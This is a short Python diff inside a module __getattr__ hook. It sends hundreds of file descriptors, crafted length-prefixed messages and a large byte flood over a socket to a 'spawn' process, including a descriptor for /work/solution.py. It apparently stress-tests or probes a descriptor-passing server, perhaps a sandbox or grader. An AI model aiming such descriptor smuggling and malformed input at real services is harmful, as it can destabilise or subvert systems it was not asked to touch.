@@ -14,11 +14,14 @@ def __getattr__(name):
         listener.bind(("127.0.0.1", 0))
         listener.listen()
         file = os.open("/work/solution.py", os.O_RDONLY)
-        pairs = [socket.socketpair() for _ in range(200)]
-        socket.send_fds(spawn, [b"x" * 64], [listener.fileno()])
-        for mine, theirs in pairs:
-            socket.send_fds(spawn, [b"\xff" * 64], [theirs.fileno()])
-            mine.send(b"\0\0\0\5C[1]]")
+        socket.send_fds(spawn, [b"x" * 64], [listener.fileno(), file])
+        socket.send_fds(spawn, [b"x" * 64], [pipe[0], pipe[0]])
+        for _ in range(200):
+            reading, mine = os.pipe()
+            theirs, writing = os.pipe()
+            os.set_blocking(reading, False)
+            socket.send_fds(spawn, [b"\xff" * 64], [reading, writing])
+            os.write(mine, b"\0\0\0\5C[1]]")
         socket.send_fds(spawn, [b"name" * 16], [pipe[0], pipe[1], file])
         socket.send_fds(spawn, [b"y" * 3], [file])
         spawn.sendall(b"z" * 10_000)
